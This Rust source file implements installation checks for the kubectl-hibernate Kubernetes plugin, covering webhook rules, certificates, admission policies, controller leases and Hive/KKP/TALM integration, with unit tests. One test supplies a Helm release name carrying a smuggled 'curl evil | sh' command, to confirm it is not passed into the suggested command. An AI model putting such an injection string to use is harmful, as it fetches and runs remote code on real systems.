//! The checks of an installation, each over facts that were read.

use serde_json::Value;
use shared::annotation::keys;
use shared::rollout::admission::{POLICY, policy};
use shared::target::FOUNDATIONDB_CLUSTER;
use shared::text::list;

use super::certificate::{Distrust, bytes, verify};
use super::finding::{CheckResult, Finding, Status};
use super::hub::{Facts, POWER_ROLLOUT_DEFINITION, SECRET, kustomize};
use crate::api::error::HubError;
use crate::api::{name_of, text};
use crate::read::installation::{held, is_disabled};

/// This program's version, which is that of the manifests beside it.
const VERSION: &str = env!("CARGO_PKG_VERSION");
/// A certificate that ends sooner has not been renewed when it should have been.
const DAYS_LEFT: i64 = 7;
/// Roles of programs, and the policy that confines each.
const CONFINED: [(&str, &str); 5] = [
    ("hibernate-controller", "hibernate-controller-hive"),
    ("hibernate-controller-fdb", "hibernate-controller-fdb"),
    ("hibernate-controller-kkp", "hibernate-controller-kkp"),
    ("hibernate-controller-openstack", "hibernate-controller-openstack"),
    ("hibernate-webhook", "hibernate-webhook-ca-bundle-only"),
];

/// The policy of the overlay policy-only.
pub(super) const POLICY_ONLY: &str = "clusterdeployments.hibernate.sh";

/// A result; none where there is nothing to check; or why the hub did not answer.
type Checked<'a> = Result<Option<CheckResult>, &'a HubError>;

/// A check: pure.
type Check = fn(&Facts) -> Checked<'_>;

/// Every check, in the order of the output.
const CHECKS: [(&str, Check); 11] = [
    ("versions", versions),
    ("webhook-rules", rules),
    ("webhook-pods", pods),
    ("webhook-ca-bundle", ca_bundle),
    ("webhook-certificate", certificate),
    ("webhook-answers", answers),
    ("policies", policies),
    ("controller-lease", controller_lease),
    ("hive", hive),
    ("kkp", kkp),
    ("talm", talm),
];

/// Runs all of them.
pub(super) fn findings(facts: &Facts) -> Vec<Finding> {
    let absent = |found: &Result<Option<Value>, _>| matches!(found, Ok(None));
    if absent(&facts.definition) && facts.rules.iter().all(absent) {
        let policies = facts.policies.iter().flatten().flatten();
        if policies.into_iter().any(|policy| name_of(policy) == POLICY_ONLY) {
            return vec![Finding::new("policies", CheckResult::ok("policies alone, without webhook and controller"))];
        }
        let detail = "kubectl-hibernate is not installed on the hub";
        return vec![Finding::new("installed", CheckResult::failed(detail, kustomize("")))];
    }
    let run = |(name, check): (&'static str, Check)| {
        let result = check(facts).unwrap_or_else(|error| Some(CheckResult::unread(error)))?;
        Some(Finding::new(name, result))
    };
    CHECKS.into_iter().filter_map(run).collect()
}

/// A result that there always is.
#[expect(clippy::unnecessary_wraps, reason = "the form of a check")]
fn done<'a>(result: CheckResult) -> Checked<'a> {
    Ok(Some(result))
}

/// A failure that another application of the manifests fixes.
fn reinstall<'a>(facts: &Facts, detail: &str) -> Checked<'a> {
    let command = facts.install("");
    let advice = if command.is_empty() { ": apply your manifests again" } else { "" };
    done(CheckResult::failed(format!("{detail}{advice}"), command))
}

/// `kubectl rollout restart` of one of our Deployments.
fn restart(facts: &Facts, name: &str) -> String {
    format!("kubectl rollout restart deployment/{name} -n {}", facts.namespace)
}

fn items<'a>(object: &'a Value, path: &str) -> impl Iterator<Item = &'a Value> {
    object.pointer(path).and_then(Value::as_array).into_iter().flatten()
}

/// Whether the service that the rules name is gone: none of our Pods runs, and what could be said of them is moot.
fn is_abandoned(facts: &Facts) -> bool {
    let service = |rules: &Value| rules.pointer("/webhooks/0/clientConfig/service").is_some();
    let named = facts.rules.iter().any(|rules| matches!(rules, Ok(Some(rules)) if service(rules)));
    named && matches!(facts.service, Ok(None))
}

fn versions(facts: &Facts) -> Checked<'_> {
    let (definition, deployments) = (facts.definition.as_ref()?, facts.deployments.as_ref()?);
    let Some(definition) = definition else {
        let detail = format!("CustomResourceDefinition {POWER_ROLLOUT_DEFINITION} is missing: there are no rollouts");
        return reinstall(facts, &detail);
    };
    let objects = deployments.iter().chain([definition]);
    let version = |object| match text(object, "/metadata/labels/app.kubernetes.io~1version") {
        "" => "unlabeled".to_owned(),
        version => format!("v{version}"),
    };
    let found: Vec<(String, String)> = objects.map(|one| (name_of(one).to_owned(), version(one))).collect();
    let all = list(found.iter().map(|(name, version)| format!("{name} is {version}")));
    let Some((_, hub)) = found.first().filter(|(_, first)| found.iter().all(|(_, version)| version == first)) else {
        return reinstall(facts, &format!("versions differ: {all}"));
    };
    if *hub == format!("v{VERSION}") {
        return done(CheckResult::ok(format!("v{VERSION} here and on the hub")));
    }
    let numbers = |version: &str| version.split('.').map(|part| part.parse().unwrap_or(0)).collect::<Vec<u64>>();
    let is_newer = numbers(hub.trim_start_matches('v')) > numbers(VERSION);
    let command = if is_newer { "kubectl krew upgrade hibernate".to_owned() } else { facts.install("") };
    done(CheckResult::warning(format!("the plugin is v{VERSION}, the hub has {hub}"), command))
}

/// The writes that an entry under Fail is asked about.
fn blocked(entry: &Value) -> Option<String> {
    let names = |rule: &Value, field: &str| items(rule, field).filter_map(Value::as_str).collect::<Vec<_>>().join(", ");
    let rules =
        items(entry, "/rules").map(|rule| format!("{} of {}", names(rule, "/operations"), names(rule, "/resources")));
    let is_fail = text(entry, "/failurePolicy") == "Fail";
    is_fail.then(|| format!("{} ({})", rules.collect::<Vec<_>>().join(", "), text(entry, "/name")))
}

fn rules(facts: &Facts) -> Checked<'_> {
    facts.service.as_ref()?;
    let [validating, mutating] = &facts.rules;
    let found = [validating.as_ref()?, mutating.as_ref()?];
    let all: Vec<&Value> = found.into_iter().flatten().flat_map(|rules| items(rules, "/webhooks")).collect();
    let blocked: Vec<String> = all.iter().copied().filter_map(blocked).collect();
    let name = keys::WEBHOOK;
    if is_abandoned(facts) {
        let volumes = all.iter().any(|rule| text(rule, "/name") == "suspend.hibernate.sh");
        let first = if volumes {
            ", or, as the operator then deletes suspended FoundationDB volumes, run `check --before-uninstall` first"
        } else {
            ""
        };
        let detail = format!(
            "Service {name} in namespace {} is gone and its rules are not: the API server refuses {}. To keep the product, install it again{first}",
            facts.namespace,
            list(blocked)
        );
        let delete = format!(
            "kubectl delete validatingwebhookconfiguration,mutatingwebhookconfiguration {name} --ignore-not-found"
        );
        return done(CheckResult::failed(detail, delete));
    }
    if found.iter().any(|rules| rules.is_none()) {
        let detail = format!(
            "ValidatingWebhookConfiguration or MutatingWebhookConfiguration {name} is missing: requests are not checked"
        );
        return reinstall(facts, &detail);
    }
    done(CheckResult::ok(format!("{} rules, {} of them fail closed", all.len(), blocked.len())))
}

fn pods(facts: &Facts) -> Checked<'_> {
    let (namespace, name) = (&facts.namespace, keys::WEBHOOK);
    let (_, endpoints) = (facts.deployments.as_ref()?, facts.endpoints.as_ref()?);
    if is_abandoned(facts) {
        return Ok(None);
    }
    if facts.deployment(name).is_none() {
        return reinstall(facts, &format!("Deployment {name} in namespace {namespace} is missing"));
    }
    let is_ready = |endpoint: &&Value| endpoint.pointer("/conditions/ready") != Some(&Value::Bool(false));
    let ready = endpoints.iter().flat_map(|slice| items(slice, "/endpoints")).filter(is_ready).count();
    match (facts.replicas(name), ready) {
        (0, _) => {
            let scale = format!("kubectl scale deployment {name} -n {namespace} --replicas=2");
            done(CheckResult::failed(format!("Deployment {name} has 0 replicas"), scale))
        }
        (_, 0) => {
            let describe = format!("kubectl describe pods -n {namespace} -l app.kubernetes.io/name={name}");
            done(CheckResult::failed(format!("no Pod of Service {name} is ready"), describe))
        }
        (replicas, ready) => done(CheckResult::ok(format!("{ready} of {replicas} ready"))),
    }
}

/// The host that an entry's certificate must be for.
fn host(entry: &Value) -> String {
    let service = |field: &str| text(entry, &format!("/clientConfig/service/{field}"));
    let url = text(entry, "/clientConfig/url").parse::<http::Uri>().ok();
    match url.as_ref().and_then(http::Uri::host) {
        Some(host) => host.to_owned(),
        None => format!("{}.{}.svc", service("name"), service("namespace")),
    }
}

/// The certificate chain in the Secret; none where another source has it.
fn chain(facts: &Facts) -> Result<Option<Vec<u8>>, &HubError> {
    let elsewhere = is_abandoned(facts) || facts.argument(keys::WEBHOOK, "--tls-cert").is_some();
    let secret = facts.secret.as_ref()?;
    Ok((!elsewhere).then(|| bytes(secret.as_ref().and_then(|secret| secret.pointer("/data/tls.crt")))))
}

fn ca_bundle(facts: &Facts) -> Checked<'_> {
    let secret = format!("Secret {SECRET} in namespace {}", facts.namespace);
    let restart = restart(facts, keys::WEBHOOK);
    let [validating, mutating] = &facts.rules;
    let rules = [validating.as_ref()?, mutating.as_ref()?];
    let Some(chain) = chain(facts)? else { return Ok(None) };
    if matches!(facts.secret, Ok(None)) {
        return reinstall(facts, &format!("{secret} is missing"));
    }
    if chain.is_empty() {
        let detail = format!("{secret} is empty: a running webhook populates it");
        return done(CheckResult::failed(detail, restart));
    }
    for entry in rules.into_iter().flatten().flat_map(|rules| items(rules, "/webhooks")) {
        let bundle = bytes(entry.pointer("/clientConfig/caBundle"));
        if let Err(Distrust::Other(why)) = verify(&bundle, &chain, &host(entry), facts.now) {
            let name = text(entry, "/name");
            let detail = format!("caBundle of {name} does not match the certificate in {secret}: {why}");
            return done(CheckResult::failed(detail, restart));
        }
    }
    done(CheckResult::ok(format!("every rule trusts the certificate in {secret}")))
}

fn certificate(facts: &Facts) -> Checked<'_> {
    let chain = chain(facts)?.filter(|chain| !chain.is_empty());
    let (Some(chain), Some(secret)) = (chain, facts.secret.as_ref()?) else { return Ok(None) };
    let authority = bytes(secret.pointer("/data/ca.crt"));
    let Some(Ok(Some(rules))) = facts.rules.iter().find(|rules| matches!(rules, Ok(Some(_)))) else { return Ok(None) };
    let host = host(items(rules, "/webhooks").next().unwrap_or(&Value::Null));
    let Ok(then) = facts.now.checked_add(jiff::SignedDuration::from_hours(24 * DAYS_LEFT)) else { return Ok(None) };
    match verify(&authority, &chain, &host, then) {
        Ok(()) => done(CheckResult::ok(format!("valid for {DAYS_LEFT} days at least"))),
        Err(Distrust::Expired(end)) => {
            let end = end.map(|end| format!(" at {end}")).unwrap_or_default();
            let detail = format!("the webhook's certificate expires{end}: a running webhook renews it earlier");
            done(CheckResult::failed(detail, restart(facts, keys::WEBHOOK)))
        }
        // The check of the bundles names it.
        Err(Distrust::Other(_)) => Ok(None),
    }
}

fn answers(facts: &Facts) -> Checked<'_> {
    match &facts.trial {
        _ if is_abandoned(facts) => Ok(None),
        Err(error @ HubError::Refused { .. }) if error.webhook().is_some_and(|name| name.ends_with(keys::GROUP)) => {
            done(CheckResult::ok("rejected the test request, as expected"))
        }
        Err(error @ HubError::WebhookDown { .. }) => {
            done(CheckResult::failed(error.to_string(), restart(facts, keys::WEBHOOK)))
        }
        Err(HubError::NoKind(_)) => Ok(None), // the versions name it
        // You may not patch clusters where the test request names one (R1).
        Err(error @ HubError::Refused { by, .. }) if by.contains(POLICY) => {
            done(CheckResult { status: Status::NotChecked, ..CheckResult::ok(error.to_string()) })
        }
        Err(error) => Err(error),
        Ok(_) => reinstall(facts, "no webhook rejected the test request"),
    }
}

fn policies(facts: &Facts) -> Checked<'_> {
    let (roles, policies, bindings) = (facts.roles.as_ref()?, facts.policies.as_ref()?, facts.bindings.as_ref()?);
    let Some(policies) = policies else {
        let detail = "Kubernetes before 1.30 has no ValidatingAdmissionPolicies: RBAC alone confines the programs, and no rollout starts";
        return done(CheckResult::warning(detail, ""));
    };
    let find = |objects: &[Value], name: &str| objects.iter().find(|object| name_of(object) == name).cloned();
    let guard = find(policies, POLICY).and_then(|object| serde_json::from_value(object).ok());
    let bound = find(bindings, POLICY).and_then(|object| serde_json::from_value(object).ok());
    if let Some(why) = policy().differs(guard.as_ref(), bound.as_ref()) {
        return reinstall(facts, &format!("{why}: until then no rollout starts"));
    }
    let denies = |binding: &Value| items(binding, "/spec/validationActions").any(|action| action == "Deny");
    let account = format!("system:serviceaccount:{}:", facts.namespace);
    for (role, name) in CONFINED.into_iter().filter(|(role, _)| find(roles, role).is_some()) {
        let missing = match (find(policies, name), find(bindings, name)) {
            (None, None) if role == keys::WEBHOOK => {
                let detail = format!("nothing confines ClusterRole {role}: component ca-bundle-only is not installed");
                return done(CheckResult::warning(detail, ""));
            }
            (None, _) => "ValidatingAdmissionPolicy",
            (Some(policy), _) if !policy["spec"]["matchConditions"].to_string().contains(&account) => {
                return reinstall(
                    facts,
                    &format!("policy {name} is not about the accounts of namespace {}", facts.namespace),
                );
            }
            (_, Some(binding)) if denies(&binding) => continue,
            _ => "ValidatingAdmissionPolicyBinding (with Deny)",
        };
        return reinstall(facts, &format!("{missing} {name} is missing: nothing confines ClusterRole {role}"));
    }
    done(CheckResult::ok(format!("{} policies, each with its binding", policies.len())))
}

fn controller_lease(facts: &Facts) -> Checked<'_> {
    let (lease, _) = (facts.lease.as_ref()?, facts.deployments.as_ref()?);
    if is_abandoned(facts) || facts.deployment(keys::CONTROLLER).is_some() && facts.replicas(keys::CONTROLLER) == 0 {
        return Ok(None);
    }
    let (name, namespace) = (keys::CONTROLLER, &facts.namespace);
    if facts.deployment(name).is_none() {
        return reinstall(facts, &format!("Deployment {name} in namespace {namespace} is missing"));
    }
    let what = format!("the Lease {name} in namespace {namespace}");
    let Some(lease) = lease else { return reinstall(facts, &format!("{what} is missing: no controller runs")) };
    match held(lease, facts.now) {
        Ok(()) => done(CheckResult::ok(format!("held by {}", text(lease, "/spec/holderIdentity")))),
        Err(why) => {
            let detail = format!("{what} {why}: no controller runs");
            done(CheckResult::failed(detail, restart(facts, keys::CONTROLLER)))
        }
    }
}

fn hive(facts: &Facts) -> Checked<'_> {
    facts.deployments.as_ref()?;
    let Some(config) = facts.hive.as_ref()? else { return Ok(None) };
    let served = facts.argument(keys::WEBHOOK, "--served-platforms");
    let cut_over =
        || facts.install_overlay("overlays/cut-over", "servedPlatforms={aws\\,openstack},controller.replicas=2");
    let result = match (is_disabled(config), facts.replicas(keys::CONTROLLER) > 0, served) {
        (false, true, _) => CheckResult::failed(
            "Hive's own hibernation controller and hibernate-controller both run: stop ours, or cut over (docs/hive.md)",
            stop(&facts.namespace),
        ),
        (true, false, _) => CheckResult::failed(
            "neither Hive's own hibernation controller nor hibernate-controller runs: no cluster sleeps or wakes (docs/hive.md, Cut over)",
            cut_over(),
        ),
        (true, true, None) => CheckResult::failed(
            "Hive's own hibernation controller is off, and the webhook still accepts platforms that only Hive serves (docs/hive.md, Cut over)",
            cut_over(),
        ),
        (false, false, Some(_)) => CheckResult::warning(
            "Hive's own hibernation controller runs, and the webhook rejects platforms that Hive serves (docs/hive.md, Cut back)",
            facts.install_overlay("overlays/webhook-only", "servedPlatforms=null"),
        ),
        (true, true, Some(served)) => CheckResult::ok(format!("hibernate-controller serves {served}")),
        (false, false, None) => {
            CheckResult::ok("Hive's own hibernation controller runs, hibernate-controller does not")
        }
    };
    done(result)
}

/// The command that stops our controller.
pub(super) fn stop(namespace: &str) -> String {
    format!("kubectl scale deployment {} -n {namespace} --replicas=0", keys::CONTROLLER)
}

fn kkp(facts: &Facts) -> Checked<'_> {
    if is_abandoned(facts) || !facts.has_user_clusters {
        return Ok(None);
    }
    facts.deployments.as_ref()?;
    let has_rule = |rules: &Value| items(rules, "/webhooks").any(|entry| text(entry, "/name").contains("kkp"));
    if facts.argument(keys::CONTROLLER, "--kkp").is_some() && facts.rules.iter().flatten().flatten().any(has_rule) {
        return done(CheckResult::ok("the controller serves KKP's Clusters, the webhook guards them"));
    }
    // The overlay has no guard of FoundationDB's volumes.
    let has_databases = facts.groups.iter().any(|group| group == FOUNDATIONDB_CLUSTER.kind.group);
    let command =
        if has_databases { String::new() } else { facts.install_overlay("overlays/kkp", "components.kkp=true") };
    let detail =
        "the hub has KKP's Clusters, and the component kkp is not installed: none of them sleeps (docs/kkp.md)";
    done(CheckResult::warning(detail, command))
}

fn talm(facts: &Facts) -> Checked<'_> {
    let Some(lease) = facts.talm.as_ref()? else { return Ok(None) };
    if held(lease, facts.now).is_err() {
        return done(CheckResult::ok("TALM does not renew its Lease: hibernate-controller runs upgrades"));
    }
    let detail = "TALM renews its Lease: hibernate-controller, which has --cgu, leaves all upgrades to it";
    done(CheckResult::warning(detail, ""))
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;
    use serde_json::json;

    use super::super::finding::Status::{self, Failed, Ok as Fine, Warning};
    use super::*;

    /// A hub with both Deployments, where nothing else is.
    fn facts(controller: &Value, webhook: &Value) -> Facts {
        let deployment = |name: &str, replicas: &Value, args: &Value| {
            json!({
                "metadata": { "name": name, "labels": { "app.kubernetes.io/version": VERSION } },
                "spec": { "replicas": replicas, "template": { "spec": {
                    "containers": [{ "args": args, "image": format!("{name}:v{VERSION}") }] } } },
            })
        };
        let named = |name: &str| json!({ "metadata": { "name": name } });
        Facts {
            now: Timestamp::UNIX_EPOCH,
            namespace: keys::NAMESPACE.to_owned(),
            groups: Vec::new(),
            rules: [Ok(None), Ok(None)],
            definition: Ok(None),
            deployments: Ok(vec![
                deployment(keys::CONTROLLER, controller, &json!([])),
                deployment(keys::WEBHOOK, &json!(2), webhook),
            ]),
            roles: Ok(vec![named("hibernate-controller-fdb")]),
            role_bindings: Ok(vec![named("hibernate-controller-secrets")]),
            policies: Ok(Some(Vec::new())),
            bindings: Ok(Vec::new()),
            service: Ok(None),
            endpoints: Ok(Vec::new()),
            secret: Ok(None),
            lease: Ok(None),
            talm: Ok(None),
            hive: Ok(None),
            has_user_clusters: false,
            trial: Ok(Value::Null),
        }
    }

    #[test]
    fn one_controller_hibernates_the_clusters_of_a_hub() {
        let (all, ours) = (json!([]), json!(["--served-platforms=aws,openstack"]));
        for (off, replicas, webhook, expected, overlay) in [
            (false, 2, &all, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
            (false, 2, &ours, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
            (true, 0, &all, Failed, "manifests/overlays/cut-over"),
            (true, 0, &ours, Failed, "manifests/overlays/cut-over"),
            (true, 2, &all, Failed, "manifests/overlays/cut-over"),
            (true, 2, &ours, Fine, ""),
            (false, 0, &ours, Warning, "manifests/overlays/webhook-only"),
            (false, 0, &all, Fine, ""),
        ] {
            let mut facts = facts(&json!(replicas), webhook);
            let disabled = if off { json!(["hibernation"]) } else { json!(["clusterpool"]) };
            facts.hive = Ok(Some(json!({ "spec": { "disabledControllers": disabled } })));
            let found = hive(&facts).unwrap().unwrap();
            assert_eq!(found.status, expected, "{off} {replicas} {webhook}");
            assert!(found.commands.iter().all(|command| command.contains(overlay)), "{found:?}");
        }
        assert_eq!(hive(&facts(&json!(2), &all)).unwrap(), None, "a hub without Hive");
    }

    #[test]
    fn what_runs_is_installed_again_as_it_is_or_by_whoever_knows_how() {
        let with = |change: &dyn Fn(&mut Facts)| {
            let mut facts = facts(&json!(2), &json!([]));
            change(&mut facts);
            facts.install("a=b")
        };
        let of = |facts: &mut Facts, at: usize, path: &str, value: Value| {
            *facts.deployments.as_mut().unwrap()[at].pointer_mut(path).unwrap() = value;
        };
        let args = "/spec/template/spec/containers/0/args";
        let helm = |release: &str| {
            let notes = json!({ "meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": "ops" });
            with(&|facts| of(facts, 1, "/metadata", json!({ "name": keys::WEBHOOK, "annotations": notes })))
        };
        let labeled =
            json!({ "webhooks": [{ "name": "suspend.hibernate.sh", "namespaceSelector": { "matchLabels": {} } }] });
        for (found, expected) in [
            (with(&|_| {}), "kubectl apply -k manifests/"),
            (
                with(&|facts| of(facts, 1, args, json!(["--served-platforms=aws"]))),
                "kubectl apply -k manifests/overlays/cut-over",
            ),
            (
                with(&|facts| of(facts, 0, "/spec/replicas", json!(0))),
                "kubectl apply -k manifests/overlays/webhook-only",
            ),
            (
                with(&|facts| facts.rules[0] = Ok(Some(labeled.clone()))),
                "kubectl apply -k manifests/overlays/labeled-databases",
            ),
            (
                with(&|facts| {
                    of(facts, 0, args, json!(["--kkp"]));
                    (facts.roles, facts.role_bindings) = (Ok(Vec::new()), Ok(Vec::new()));
                }),
                "kubectl apply -k manifests/overlays/kkp",
            ),
            (helm("sleep"), "helm upgrade sleep charts/hibernate --namespace ops --reset-then-reuse-values --set a=b"),
            (helm("x; curl evil | sh #"), "kubectl apply -k manifests/"),
            // Only the owner knows the rest.
            (with(&|facts| facts.namespace = "sleep".to_owned()), ""),
            (with(&|facts| of(facts, 1, "/spec/template/spec/containers/0/image", json!("r.example.com/x:v1"))), ""),
            (with(&|facts| of(facts, 0, args, json!(["--cgu"]))), ""),
            (with(&|facts| facts.role_bindings = Ok(Vec::new())), ""),
            (with(&|facts| facts.deployments = Ok(Vec::new())), ""),
        ] {
            assert_eq!(found, expected);
        }
    }

    #[test]
    fn every_missing_right_is_one_finding_and_no_failure() {
        let forbidden =
            || HubError::Forbidden { object: "o".to_owned(), message: "User \"bob\" cannot get".to_owned() };
        let mut facts = facts(&json!(2), &json!([]));
        facts.rules = [Err(forbidden()), Err(forbidden())];
        (facts.definition, facts.roles, facts.secret) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
        facts.service = Err(forbidden());
        (facts.deployments, facts.lease, facts.trial) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
        let statuses: Vec<Status> = CHECKS
            .iter()
            .filter_map(|(_, check)| match check(&facts) {
                Ok(result) => result.map(|result| result.status),
                Err(error) => Some(CheckResult::unread(error).status),
            })
            .collect();
        assert!(statuses.iter().all(|status| *status == Status::NotChecked), "{statuses:?}");
        assert_eq!(statuses.len(), 9, "a hub without KKP and TALM");
    }
}
